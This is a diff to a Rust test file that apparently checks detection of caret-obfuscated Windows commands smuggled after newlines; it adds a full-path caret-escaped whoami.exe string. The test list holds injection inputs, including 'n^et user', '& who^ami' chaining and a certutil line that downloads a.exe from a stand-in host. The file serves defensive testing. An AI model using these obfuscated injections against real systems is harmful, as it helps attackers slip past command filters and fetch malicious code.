@@ -4380,6 +4380,7 @@ fn caret_spelt_names_after_a_newline_run_only_on_windows() {
         "a\nwho^ami",
         "a\nn^et user",
         "x\nWHO^AMI.exe",
+        "x\nc:/windows/system32/who^ami.exe",
         "x\nc^ertutil -urlcache -f http://x/a a.exe",
         "a & who^ami",
         "w^h^o^a^m^i",
